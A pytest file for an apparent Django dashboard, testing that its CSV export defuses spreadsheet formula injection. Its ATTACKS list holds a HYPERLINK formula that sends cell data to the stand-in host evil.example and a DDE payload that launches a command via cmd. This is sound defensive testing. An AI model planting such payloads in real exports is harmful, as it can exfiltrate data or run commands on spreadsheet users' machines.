"""CSV exports defuse formula injection: no cell a spreadsheet would run reaches the file."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.utils import timezone

from accounts.models import Membership
from analytics.models import KnowledgeGap, TopicDailyRollup
from memory.conversations.models import Message
from tests.api.factories import make_tenant

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.django_db
def test_customer_text_that_looks_like_a_formula_is_exported_as_text() -> None:
    tenant = make_tenant()
    owner = User.objects.create_user("csv-owner", password="pw-owner-1")
    Membership.objects.create(user=owner, organization=tenant.org, role="owner")
    now = timezone.now()
    for seq, text in enumerate(ATTACKS, start=10):
        question = Message.objects.create(
            conversation=tenant.conversation, seq=seq, role="user", text=text, status="received"
        )
        # The topic name too: each attack is its own row of the export.
        KnowledgeGap.objects.create(
            organization=tenant.org, bot=tenant.bot, question=question, topic=text,
            text=text, reason="no_knowledge", asked_at=now,
        )  # fmt: skip
        TopicDailyRollup.objects.create(
            organization=tenant.org, bot=tenant.bot, day=now.date(), topic=text,
            questions=1, gaps_no_knowledge=1,
        )  # fmt: skip
    client = Client()
    client.force_login(owner)

    response = client.get("/dashboard/gaps/?format=csv")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    by_topic = {row[0]: row for row in rows if len(row) == 5}
    for text in ATTACKS:
        _topic, questions, _no_knowledge, _not_helpful, examples = by_topic["'" + text]
        assert examples == "'" + text
        assert questions == "1"  # numbers stay numbers: only text is prefixed
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
